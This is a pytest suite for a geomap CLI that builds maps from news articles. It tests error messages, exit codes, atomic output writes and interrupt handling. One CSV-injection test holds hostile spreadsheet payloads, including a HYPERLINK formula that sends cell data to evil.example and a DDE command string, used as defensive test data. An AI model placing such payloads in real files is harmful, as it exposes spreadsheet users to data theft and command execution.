"""``geomap build`` as a user runs it: outputs, exit statuses, messages, bad input."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from geomap.cli.main import cli

GOOD = ("Azerbaijan's defense ministry said its forces along the border with Armenia came "
        "under fire on Sunday. Armenia's defense ministry denied it.")
ALL_FILES = {"map.html", "places.geojson", "incidents.geojson", "claims.geojson",
             "overlays.geojson", "geomap.gpkg", "incidents.csv"}


def snapshot(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (hidden ones too) with a digest of its bytes."""
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture
def previous_outputs(tmp_path) -> Path:
    """An output folder holding the files of an earlier build (stand-ins)."""
    out = tmp_path / "out"
    out.mkdir()
    for name in sorted(ALL_FILES):
        (out / name).write_text(f"earlier {name}", encoding="utf-8")
    return out


def good_article(folder: Path, name: str = "good.txt") -> Path:
    path = folder / name
    path.write_text(GOOD, encoding="utf-8")
    return path


def test_build_writes_every_file_of_outputs_md(runner, tmp_path):
    article = good_article(tmp_path)
    out = tmp_path / "out"
    result = runner.invoke(cli, ["build", str(article), "--out", str(out),
                                 "--published", "2022-10-17"])
    assert result.exit_code == 0, result.output
    assert ALL_FILES <= {p.name for p in out.iterdir()}
    assert "1 article(s)" in result.output
    assert not any(p.name.startswith(".geomap-tmp") for p in tmp_path.iterdir())


def test_format_option_chooses_the_files(runner, tmp_path):
    article = good_article(tmp_path)
    out = tmp_path / "out"
    result = runner.invoke(cli, ["build", str(article), "--out", str(out),
                                 "--format", "geojson,csv"])
    assert result.exit_code == 0, result.output
    names = {p.name for p in out.iterdir()}
    assert "incidents.csv" in names and "places.geojson" in names
    assert "map.html" not in names and "geomap.gpkg" not in names


def _bad_cases(tmp: Path) -> dict[str, tuple[list[str], str]]:
    """name -> (arguments, fragment the one-line message must contain)."""
    (tmp / "empty_folder").mkdir()
    (tmp / "empty.txt").write_bytes(b"")
    (tmp / "binary.txt").write_bytes(bytes(range(256)) * 4)
    (tmp / "koi8.txt").write_bytes("Сегодня на границе стреляли весь день".encode("koi8-r"))
    (tmp / "broken.json").write_text('[{"file": "good.txt",', encoding="utf-8")
    (tmp / "nofile.json").write_text('[{"published": "2022-09-14"}]', encoding="utf-8")
    (tmp / "baddate.json").write_text('[{"file": "good.txt", "published": "Tuesday"}]',
                                      encoding="utf-8")
    (tmp / "extra.csv").write_text("name,lat,lon,country,kind\nSotk,forty,45.87,AM,village\n",
                                   encoding="utf-8")
    (tmp / "overlay.geojson").write_text('{"type": "FeatureCollection", "features": [',
                                         encoding="utf-8")
    (tmp / "a_file").write_text("x", encoding="utf-8")
    (tmp / "report.pdf").write_bytes(b"%PDF-1.4\nAzerbaijani forces shelled Sotk.\n")
    (tmp / "empty.jsonl").write_text("\n\n", encoding="utf-8")
    (tmp / "extra.yaml").write_bytes("- name: Kəlbəcər\n  lat: 40.1\n".encode("cp1252",
                                                                              "replace")
                                     + b"\xe9\xff\n")
    (tmp / "route.yaml").write_text("id: r\nname: R\nwaypoints:\n  - name: Yerevan\n"
                                    "  - name: Goris\nanalysis:\n  border: [1, 2]\n",
                                    encoding="utf-8")
    (tmp / "deep.json").write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    (tmp / "deep.yaml").write_text("- " + "[" * 5000 + "]" * 5000, encoding="utf-8")
    (tmp / "blank.yaml").write_text('- {name: "   ", lat: 40, lon: 45}\n', encoding="utf-8")
    (tmp / "not_a_page.html").write_text("Jermuk was shelled by Azerbaijani forces.",
                                         encoding="utf-8")
    (tmp / "one_point.geojson").write_text('{"type": "LineString", "coordinates": [[45, 39]]}',
                                           encoding="utf-8")
    good = str(good_article(tmp))
    return {
        "missing path": ([str(tmp / "nope.txt")], "nope.txt"),
        "folder with no articles": ([str(tmp / "empty_folder")], "empty_folder"),
        "empty file": ([str(tmp / "empty.txt")], "empty.txt"),
        "binary file": ([str(tmp / "binary.txt")], "binary.txt"),
        "unknown encoding": ([str(tmp / "koi8.txt")], "koi8.txt"),
        "broken manifest JSON": ([str(tmp / "broken.json")], "broken.json"),
        "manifest missing field": ([str(tmp / "nofile.json")], "file"),
        "manifest date not a date": ([str(tmp / "baddate.json")], "baddate.json"),
        "unreadable override file": ([good, "--gazetteer-extra", str(tmp / "extra.csv")],
                                     "extra.csv"),
        "missing override file": ([good, "--gazetteer-extra", str(tmp / "none.csv")],
                                  "none.csv"),
        "broken overlay file": ([good, "--overlay", str(tmp / "overlay.geojson")],
                                "overlay.geojson"),
        "override YAML not UTF-8": ([good, "--gazetteer-extra", str(tmp / "extra.yaml")],
                                    "not UTF-8"),
        "overlay definition of the wrong shape": ([good, "--overlay", str(tmp / "route.yaml")],
                                                  "route.yaml"),
        "Dask scheduler not an address": ([good, "--engine", "dask", "--scheduler",
                                           "notanaddress"], "notanaddress"),
        "manifest nested too deeply": ([str(tmp / "deep.json")], "nested too deeply"),
        "override YAML nested too deeply": ([good, "--gazetteer-extra", str(tmp / "deep.yaml")],
                                            "nested too deeply"),
        "override with a blank name": ([good, "--gazetteer-extra", str(tmp / "blank.yaml")],
                                       "missing value"),
        "a page that is no web page": ([str(tmp / "not_a_page.html")], "no article text"),
        "a PDF given by name": ([str(tmp / "report.pdf")], "a PDF file is no article"),
        "an empty JSONL file": ([str(tmp / "empty.jsonl")], "empty.jsonl: the file is empty"),
        "overlay line of one point": ([good, "--overlay", str(tmp / "one_point.geojson")],
                                      "invalid geometry"),
    }


CASES = ["missing path", "folder with no articles", "empty file", "binary file",
         "unknown encoding", "broken manifest JSON", "manifest missing field",
         "manifest date not a date", "unreadable override file", "missing override file",
         "broken overlay file", "override YAML not UTF-8",
         "overlay definition of the wrong shape",
         "Dask scheduler not an address", "manifest nested too deeply",
         "override YAML nested too deeply", "override with a blank name",
         "a page that is no web page", "overlay line of one point", "a PDF given by name",
         "an empty JSONL file"]


@pytest.mark.parametrize("case", CASES)
def test_bad_input_gets_one_line_exit_1_and_leaves_outputs_alone(runner, tmp_path,
                                                                 previous_outputs, case):
    args, fragment = _bad_cases(tmp_path)[case]
    before = snapshot(previous_outputs)
    result = runner.invoke(cli, ["build", *args, "--out", str(previous_outputs)])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    message = [line for line in result.output.splitlines() if line.strip()]
    assert len(message) == 1 and fragment in message[0], result.output
    assert snapshot(previous_outputs) == before


def test_an_unknown_format_is_a_usage_error(runner, tmp_path, previous_outputs):
    before = snapshot(previous_outputs)
    result = runner.invoke(cli, ["build", str(good_article(tmp_path)), "--format", "html,shp",
                                 "--out", str(previous_outputs)])
    assert result.exit_code == 2 and "unknown format 'shp'" in result.output
    assert len(result.output.strip().splitlines()) == 1
    assert snapshot(previous_outputs) == before


@pytest.mark.parametrize("published", ["2022-13-45", "0001-01-03", "20220914", "2022-W37-3"])
def test_bad_published_option_is_a_usage_error(runner, tmp_path, previous_outputs, published):
    before = snapshot(previous_outputs)
    result = runner.invoke(cli, ["build", str(good_article(tmp_path)), "--published",
                                 published, "--out", str(previous_outputs)])
    assert result.exit_code == 2 and "not a date" in result.output
    assert "Traceback" not in result.output
    assert snapshot(previous_outputs) == before


@pytest.mark.parametrize("option, value, fragment", [
    ("--format", "", "names no format"), ("--format", " , ", "names no format"),
    ("--corridor-width-km", "nan", "not a finite number"),
    ("--sector-radius-km", "NaN", "not a finite number"),
    ("--sector-radius-km", "inf", "not in the range")])
def test_bad_option_value_is_a_usage_error(runner, tmp_path, previous_outputs, option, value,
                                           fragment):
    before = snapshot(previous_outputs)
    result = runner.invoke(cli, ["build", str(good_article(tmp_path)), option, value,
                                 "--out", str(previous_outputs)])
    assert result.exit_code == 2 and fragment in result.output, result.output
    assert snapshot(previous_outputs) == before


def test_a_failed_build_leaves_no_folder_it_created(runner, tmp_path):
    out = tmp_path / "new" / "deeper" / "out"
    result = runner.invoke(cli, ["build", str(tmp_path / "nope.txt"), "--out", str(out)])
    assert result.exit_code == 1 and "nope.txt" in result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == []


def test_a_move_failing_part_way_puts_the_previous_outputs_back(runner, tmp_path,
                                                               previous_outputs,
                                                               monkeypatch):
    """The disk fills, or a file is locked, while the new files move in: the folder
    keeps the whole earlier set, not a mix of old and new."""
    import geomap.outputs
    before = snapshot(previous_outputs)
    replace, moves = os.replace, []

    def failing_replace(source, target):
        moves.append(target)
        if len(moves) == 6:
            raise OSError(28, "No space left on device")
        return replace(source, target)

    monkeypatch.setattr(geomap.outputs.os, "replace", failing_replace)
    result = runner.invoke(cli, ["build", str(good_article(tmp_path)), "--out",
                                 str(previous_outputs)])
    monkeypatch.undo()
    assert result.exit_code == 1 and "No space left on device" in result.output
    assert len(moves) > 6                 # some new files had moved in, and went back
    assert snapshot(previous_outputs) == before
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".geomap-tmp")]


@pytest.mark.parametrize("args, fragment, where", [
    (["build", "--no-such-option"], "No such option", "geomap build --help"),
    (["build", "x.txt", "--corridor-width-km", "nan"], "not a finite number",
     "geomap build --help"),
    (["--no-such-option"], "No such option", "geomap --help"),
    (["no-such-command"], "No such command", "geomap --help"),
    (["resolve"], "Missing argument", "geomap resolve --help")])
def test_a_usage_error_is_one_line_saying_where_the_usage_is(runner, args, fragment, where):
    result = runner.invoke(cli, args, prog_name="geomap")
    assert result.exit_code == 2 and fragment in result.output
    assert len(result.output.strip().splitlines()) == 1, result.output
    assert f"see '{where}'" in result.output


def test_output_folder_that_cannot_be_written_is_an_error(runner, tmp_path):
    blocker = tmp_path / "a_file"
    blocker.write_text("x", encoding="utf-8")
    result = runner.invoke(cli, ["build", str(good_article(tmp_path)), "--out",
                                 str(blocker / "out")])
    assert result.exit_code == 1 and "a_file" in result.output
    assert blocker.read_text(encoding="utf-8") == "x"


def test_batch_with_bad_articles_builds_the_rest_and_says_so(runner, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    good_article(folder)
    (folder / "empty.txt").write_bytes(b"")
    out = tmp_path / "out"
    result = runner.invoke(cli, ["build", str(folder), "--out", str(out)])
    assert result.exit_code == 3, result.output
    assert "skipped" in result.output and "empty.txt" in result.output
    assert "1 article(s)" in result.output
    assert ALL_FILES <= {p.name for p in out.iterdir()}


def test_strict_makes_any_bad_article_fatal(runner, tmp_path, previous_outputs):
    folder = tmp_path / "in"
    folder.mkdir()
    good_article(folder)
    (folder / "empty.txt").write_bytes(b"")
    before = snapshot(previous_outputs)
    result = runner.invoke(cli, ["build", str(folder), "--strict", "--out",
                                 str(previous_outputs)])
    assert result.exit_code == 1 and "empty.txt" in result.output
    assert snapshot(previous_outputs) == before


@pytest.mark.slow
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGKILL, signal.SIGINT])
def test_killing_a_build_midway_leaves_earlier_outputs_byte_identical(tmp_path,
                                                                      previous_outputs, sig):
    corpus = tmp_path / "corpus.jsonl"
    with corpus.open("w", encoding="utf-8") as fh:
        for i in range(4000):
            fh.write(json.dumps({"id": f"a{i}", "text": GOOD * 3,
                                 "published": "2022-10-17"}) + "\n")
    before = snapshot(previous_outputs)
    proc = subprocess.Popen([sys.executable, "-m", "geomap", "build", str(corpus), "--out",
                             str(previous_outputs)], stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE)
    time.sleep(4.0)
    assert proc.poll() is None, "the build finished before it could be interrupted"
    os.kill(proc.pid, sig)
    proc.communicate(timeout=60)
    assert proc.returncode != 0
    assert snapshot(previous_outputs) == before
    if sig != signal.SIGKILL:
        assert not [p for p in tmp_path.iterdir() if p.name.startswith(".geomap-tmp")]


@pytest.mark.slow
@pytest.mark.parametrize("sig", [signal.SIGTERM, signal.SIGINT])
def test_interrupting_a_build_with_worker_processes_says_one_line(tmp_path, sig):
    """Ctrl-C reaches the workers too: they stay quiet, the build says one line and
    exits 130 at once, and the output folder it created is gone."""
    corpus = tmp_path / "corpus.jsonl"
    with corpus.open("w", encoding="utf-8") as fh:
        for i in range(4000):
            fh.write(json.dumps({"id": f"a{i}", "text": GOOD * 3}) + "\n")
    out = tmp_path / "new" / "out"
    proc = subprocess.Popen([sys.executable, "-m", "geomap", "build", str(corpus), "--out",
                             str(out), "-j", "2", "--published", "2022-10-17"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                            start_new_session=True)
    time.sleep(5.0)
    assert proc.poll() is None, "the build finished before it could be interrupted"
    os.killpg(proc.pid, sig)                # the whole group, as a terminal's Ctrl-C does
    _, err = proc.communicate(timeout=60)
    assert proc.returncode == 130
    assert err.strip().splitlines() == [
        "geomap: interrupted; previous outputs left as they were"]
    assert not (tmp_path / "new").exists()


def test_two_builds_of_the_seeds_are_byte_identical(runner, seeds_dir, tmp_path):
    outs = []
    for name in ("one", "two"):
        out = tmp_path / name
        result = runner.invoke(cli, ["build", str(seeds_dir / "seeds.json"), "--out", str(out)])
        assert result.exit_code == 0, result.output
        outs.append(snapshot(out))
    assert outs[0] == outs[1]
    assert ALL_FILES <= set(outs[0])


def test_no_input_builds_the_built_in_example(runner, tmp_path):
    out = tmp_path / "out"
    result = runner.invoke(cli, ["build", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert {"map.html", "places.geojson"} <= {p.name for p in out.iterdir()}
    places = json.loads((out / "places.geojson").read_text(encoding="utf-8"))
    names = {f["properties"]["name"] for f in places["features"]}
    assert {"Jermuk", "Yerevan", "Meghri"} <= names


def test_an_internal_error_is_one_line_not_a_traceback(runner, tmp_path, monkeypatch):
    import geomap.pipeline

    def broken(*args, **kwargs):
        raise RuntimeError("something geomap did not expect")

    monkeypatch.setattr(geomap.pipeline, "build", broken)
    result = runner.invoke(cli, ["build", "--out", str(tmp_path / "out")])
    assert result.exit_code == 1
    assert "Traceback" not in result.output
    assert "internal error" in result.output and "did not expect" in result.output
    assert not (tmp_path / "out").exists() or not any((tmp_path / "out").iterdir())


def test_progress_option_shows_a_progress_bar(runner, tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    for i in range(3):
        good_article(folder, f"a{i}.txt")
    result = runner.invoke(cli, ["build", str(folder), "--progress", "--format", "csv",
                                 "--out", str(tmp_path / "out")])
    assert result.exit_code == 0, result.output
    assert "geomap: 0 articles [" in result.output and "articles/s]" in result.output


@pytest.mark.parametrize("flags, logged", [
    (["build", "-v"], True),            # after the command name, as build --help lists it
    (["-v", "build"], True),            # before it, on the group
    (["-v", "build", "-q"], False),     # and they add up
    (["build"], False),
])
def test_verbose_logs_the_stages_and_quiet_silences_them(tmp_path, flags, logged):
    article = good_article(tmp_path)
    done = subprocess.run([sys.executable, "-m", "geomap", *flags, str(article), "--format",
                           "csv", "--out", str(tmp_path / "out")],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert ("1 article(s) analysed in" in done.stderr) is logged, done.stderr


def test_a_reader_that_stops_reading_gets_no_error_message(tmp_path):
    """`geomap build | head -1`: the outputs are written, and a closed pipe is no
    "internal error" (the exit status is a SIGPIPE death's, as for any command)."""
    read_end, write_end = os.pipe()
    os.close(read_end)
    try:
        done = subprocess.run([sys.executable, "-m", "geomap", "build", "--out",
                               str(tmp_path / "out"), "--format", "csv"],
                              stdout=write_end, stderr=subprocess.PIPE, text=True,
                              timeout=300)
    finally:
        os.close(write_end)
    assert done.stderr == ""
    assert done.returncode == 128 + signal.SIGPIPE
    assert (tmp_path / "out" / "incidents.csv").is_file()


def test_a_build_removes_only_what_dead_builds_left(tmp_path):
    """Staging folders of a build that was killed go; those of running builds (into this
    folder or into a folder whose name starts the same) stay."""
    from geomap.outputs import prepare_out_dir

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    left = tmp_path / f".geomap-tmp-out.{dead.pid}-abc"
    running = tmp_path / f".geomap-tmp-out.{os.getpid()}-def"
    other = tmp_path / f".geomap-tmp-out-2.{os.getpid()}-ghi"
    for folder in (left, running, other):
        folder.mkdir()
    prepare_out_dir(tmp_path / "out")
    assert not left.exists() and running.exists() and other.exists()


def test_a_cache_folder_that_is_a_file_is_one_clear_message(tmp_path):
    not_a_folder = tmp_path / "cache"
    not_a_folder.write_text("x", encoding="utf-8")
    done = subprocess.run([sys.executable, "-m", "geomap", "resolve", "Yerevan"],
                          capture_output=True, text=True, timeout=120,
                          env={**os.environ, "GEOMAP_CACHE_DIR": str(not_a_folder)})
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stderr.strip().splitlines() == [
        f"Error: cannot use the cache folder {not_a_folder} (File exists); set "
        "GEOMAP_CACHE_DIR to a writable folder"]


def test_an_article_without_a_date_is_said_to_have_none(runner, tmp_path, caplog):
    article = tmp_path / "undated.txt"
    article.write_text("Azerbaijani forces shelled Sotk on Monday, Armenia said.",
                       encoding="utf-8")
    result = runner.invoke(cli, ["build", str(article), "--out", str(tmp_path / "out"),
                                 "--format", "geojson"])
    assert result.exit_code == 0, result.output
    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert any("no publication date (undated.txt)" in w and "--published" in w
               for w in warned), warned
    caplog.clear()
    dated = runner.invoke(cli, ["build", str(article), "--out", str(tmp_path / "out2"),
                                "--format", "geojson", "--published", "2024-06-20"])
    assert dated.exit_code == 0 and not [r for r in caplog.records
                                         if "publication date" in r.getMessage()]


def test_files_of_an_earlier_build_left_beside_the_new_ones_are_named(runner, tmp_path,
                                                                      caplog):
    article, out = good_article(tmp_path), tmp_path / "out"
    assert runner.invoke(cli, ["build", str(article), "--out", str(out), "--format",
                               "geojson"]).exit_code == 0
    caplog.clear()
    result = runner.invoke(cli, ["build", str(article), "--out", str(out), "--format", "html"])
    assert result.exit_code == 0, result.output
    warned = " ".join(r.getMessage() for r in caplog.records if r.levelname == "WARNING")
    assert "files of an earlier build" in warned and "places.geojson" in warned
    assert "map.html" not in warned.split("now):")[-1]


@pytest.mark.parametrize("value", ["", "  "])
def test_an_empty_out_option_is_a_usage_error_and_writes_nothing_here(runner, tmp_path,
                                                                      monkeypatch, value):
    """`--out "$OUT"` with OUT unset: not a build into the current folder."""
    article = good_article(tmp_path)
    here = tmp_path / "here"
    here.mkdir()
    monkeypatch.chdir(here)
    result = runner.invoke(cli, ["build", str(article), "--out", value], prog_name="geomap")
    assert result.exit_code == 2, result.output
    assert result.output.strip().splitlines() == [
        "Error: Invalid value for '--out' / '-o': must not be empty (name a folder; '.' is "
        "this one) (see 'geomap build --help')"]
    assert list(here.iterdir()) == []


def test_csv_text_cells_that_a_spreadsheet_would_run_are_quoted(runner, tmp_path):
    """Article ids and text starting with =, +, @ or - reach incidents.csv with a ' before
    them (numbers stay numbers); the GeoJSON keeps them as they are."""
    corpus = tmp_path / "hostile.jsonl"
    hostile = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "-cmd|x",
               "+cmd|' /C calc'!A0"]
    with corpus.open("w", encoding="utf-8") as fh:
        for ident in hostile:
            fh.write(json.dumps({"id": ident, "text": f"{hostile[3]} {GOOD}"}) + "\n")
    out = tmp_path / "out"
    result = runner.invoke(cli, ["build", str(corpus), "--out", str(out), "--published",
                                 "2022-10-17", "--format", "csv,geojson"])
    assert result.exit_code == 0, result.output
    with open(out / "incidents.csv", encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows
    from geomap.export.acled import CSV_COLUMNS
    text_columns = [name for name, kind in CSV_COLUMNS if kind == "String"]
    for row in rows:
        for name in text_columns:
            assert not row[name][:1] in ("=", "+", "@", "-", "\t", "\r"), (name, row[name])
        float(row["latitude"]), float(row["longitude"]), int(row["fatalities"])
    cells = {cell for row in rows for name in ("source", "articles", "event_id_cnty", "notes")
             for cell in row[name].split("; ")}
    assert {"'" + ident for ident in hostile} & cells
    assert any(row["notes"].startswith("'+cmd|") for row in rows)
    features = json.loads((out / "incidents.geojson").read_text(encoding="utf-8"))["features"]
    ids = {a for f in features for a in f["properties"]["articles"]}
    assert ids & set(hostile) and not any(i.startswith("'") for i in ids)


@pytest.fixture
def lock(monkeypatch):
    """``lock(folder)``: chmod 000, and where that does not stop this user (root), the
    folder is refused as the system would refuse it (``os.scandir``)."""
    locked = []

    def lock(folder: Path) -> None:
        folder.chmod(0)
        locked.append(folder)
        try:
            os.listdir(folder)
        except PermissionError:
            return
        real_scandir, refused = os.scandir, os.path.realpath(folder)

        def scandir(path="."):
            if isinstance(path, (str, os.PathLike)) and os.path.realpath(path) == refused:
                raise PermissionError(13, "Permission denied", os.fspath(path))
            return real_scandir(path)

        monkeypatch.setattr(os, "scandir", scandir)

    yield lock
    for folder in locked:
        folder.chmod(0o755)


def test_an_unreadable_subfolder_and_a_broken_link_are_named_and_the_rest_is_built(
        runner, tmp_path, lock):
    folder = tmp_path / "in"
    folder.mkdir()
    good_article(folder)
    (folder / "locked").mkdir()
    good_article(folder / "locked", "hidden_away.txt")
    (folder / "dangling.txt").symlink_to(tmp_path / "gone.txt")
    lock(folder / "locked")
    out = tmp_path / "out"
    result = runner.invoke(cli, ["build", str(folder), "--out", str(out)])
    assert result.exit_code == 3, result.output
    assert "Traceback" not in result.output
    lines = result.output.splitlines()
    assert (f"geomap: skipped {folder / 'locked'}: cannot read the folder (Permission "
            "denied); its articles are left out") in lines
    assert (f"geomap: skipped {folder / 'dangling.txt'}: a link that leads to no file "
            f"({tmp_path / 'gone.txt'})") in lines
    assert "1 article(s)" in result.output and "2 article(s) skipped" in result.output
    assert ALL_FILES <= {p.name for p in out.iterdir()}


def test_strict_makes_an_unreadable_subfolder_fatal(runner, tmp_path, lock,
                                                    previous_outputs):
    folder = tmp_path / "in"
    folder.mkdir()
    good_article(folder)
    (folder / "locked").mkdir()
    lock(folder / "locked")
    before = snapshot(previous_outputs)
    result = runner.invoke(cli, ["build", str(folder), "--strict", "--out",
                                 str(previous_outputs)])
    assert result.exit_code == 1 and "Permission denied" in result.output, result.output
    assert len(result.output.strip().splitlines()) == 1
    assert snapshot(previous_outputs) == before


def test_an_unreadable_folder_given_is_said_to_be_unreadable(runner, tmp_path, lock,
                                                             previous_outputs):
    folder = tmp_path / "locked"
    folder.mkdir()
    good_article(folder)
    lock(folder)
    before = snapshot(previous_outputs)
    result = runner.invoke(cli, ["build", str(folder), "--out", str(previous_outputs)])
    assert result.exit_code == 1, result.output
    assert result.output.strip().splitlines() == [
        f"Error: {folder}: cannot read the folder (Permission denied)"]
    assert snapshot(previous_outputs) == before


def test_files_of_other_kinds_in_a_folder_are_counted_in_one_warning(runner, tmp_path,
                                                                     caplog):
    folder = tmp_path / "in"
    folder.mkdir()
    good_article(folder)
    for name in ("notes.md", "feed.jsonl", "list.csv", "README"):
        (folder / name).write_text(GOOD, encoding="utf-8")
    (folder / ".hidden.md").write_text(GOOD, encoding="utf-8")
    result = runner.invoke(cli, ["build", str(folder), "--out", str(folder / "maps"),
                                 "--published", "2022-10-17"])
    assert result.exit_code == 0, result.output
    warned = [r.getMessage() for r in caplog.records if r.levelname == "WARNING"]
    assert warned == [f"{folder}: 4 file(s) of other kinds left out (.csv, .jsonl, .md, "
                      "no extension); a folder is read for its .txt articles and "
                      ".html/.htm pages"], warned
    # the maps geomap wrote into the folder are not counted the next time
    caplog.clear()
    again = runner.invoke(cli, ["build", str(folder), "--out", str(folder / "maps"),
                                "--published", "2022-10-17"])
    assert again.exit_code == 0, again.output
    assert [r.getMessage() for r in caplog.records if r.levelname == "WARNING"] == warned


def test_a_folder_of_other_kinds_only_says_what_it_holds(runner, tmp_path,
                                                         previous_outputs):
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "notes.md").write_text(GOOD, encoding="utf-8")
    (folder / "list.csv").write_text(GOOD, encoding="utf-8")
    before = snapshot(previous_outputs)
    result = runner.invoke(cli, ["build", str(folder), "--out", str(previous_outputs)])
    assert result.exit_code == 1
    assert result.output.strip().splitlines() == [
        f"Error: {folder}: the folder holds no .txt articles or .html pages (only 2 file(s) "
        "of other kinds: .csv, .md)"]
    assert snapshot(previous_outputs) == before


def test_a_link_beside_its_file_and_a_link_back_up_are_no_second_article(runner, tmp_path,
                                                                          caplog):
    folder = tmp_path / "in"
    folder.mkdir()
    good_article(folder, "plain.txt")
    (folder / "a_link_to_plain.txt").symlink_to("plain.txt")
    (folder / "loop").symlink_to("..")
    (folder / "sub").mkdir()
    (folder / "sub" / "up").symlink_to("../..")
    out = tmp_path / "out"
    result = runner.invoke(cli, ["build", str(folder), "--out", str(out), "--published",
                                 "2022-10-17"])
    assert result.exit_code == 0, result.output
    assert "1 article(s)" in result.output
    assert not [r for r in caplog.records if r.levelname == "WARNING"]
    features = json.loads((out / "incidents.geojson").read_text(encoding="utf-8"))["features"]
    assert {a for f in features for a in f["properties"]["articles"]} == {"plain.txt"}


def test_a_subfolder_that_lists_but_cannot_be_entered_names_its_files(runner, tmp_path):
    folder = tmp_path / "in"
    (folder / "sub").mkdir(parents=True)
    good_article(folder)
    good_article(folder / "sub", "inside.txt")
    (folder / "sub").chmod(0o444)
    try:
        try:
            (folder / "sub" / "inside.txt").stat()
            pytest.skip("permissions do not stop this user (root)")
        except PermissionError:
            pass
        result = runner.invoke(cli, ["build", str(folder), "--out", str(tmp_path / "out"),
                                     "--format", "csv"])
    finally:
        (folder / "sub").chmod(0o755)
    assert result.exit_code == 3, result.output
    assert (f"geomap: skipped {folder / 'sub' / 'inside.txt'}: cannot read file "
            "(Permission denied)") in result.output.splitlines()


@pytest.mark.slow
def test_ctrl_c_twice_as_the_new_files_land_leaves_one_whole_set(tmp_path, previous_outputs):
    """Two Ctrl-C, a millisecond apart, sent the moment the first new file replaces an
    old one: the folder holds the earlier set or the new one, never a mix or a gap, no
    staging folder is left, and the build says one line and exits 130."""
    corpus = tmp_path / "corpus.jsonl"
    with corpus.open("w", encoding="utf-8") as fh:
        for i in range(1500):
            fh.write(json.dumps({"id": f"a{i}", "text": GOOD * 3}) + "\n")
    before = snapshot(previous_outputs)
    first = previous_outputs / "claims.geojson"      # among the first moved in
    inode = first.stat().st_ino
    proc = subprocess.Popen([sys.executable, "-m", "geomap", "build", str(corpus), "--out",
                             str(previous_outputs), "--published", "2022-10-17"],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    while proc.poll() is None:
        try:
            if first.stat().st_ino != inode:
                break
        except FileNotFoundError:
            break
        time.sleep(0.0002)
    assert proc.poll() is None, "the build finished before it could be interrupted"
    proc.send_signal(signal.SIGINT)
    time.sleep(0.001)
    if proc.poll() is None:
        proc.send_signal(signal.SIGINT)
    _, err = proc.communicate(timeout=60)
    after = snapshot(previous_outputs)
    earlier = {name for name in ALL_FILES if after.get(name) == before[name]}
    assert earlier in (set(), ALL_FILES), f"a mix: {sorted(earlier)} are the earlier files"
    assert ALL_FILES <= set(after)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".geomap-tmp")]
    if proc.returncode == 130:
        (line,) = err.strip().splitlines()
        assert line in ("geomap: interrupted; previous outputs left as they were",
                        "geomap: interrupted; the new outputs were all written",
                        "geomap: interrupted")
        assert (earlier == ALL_FILES) == line.endswith("left as they were")
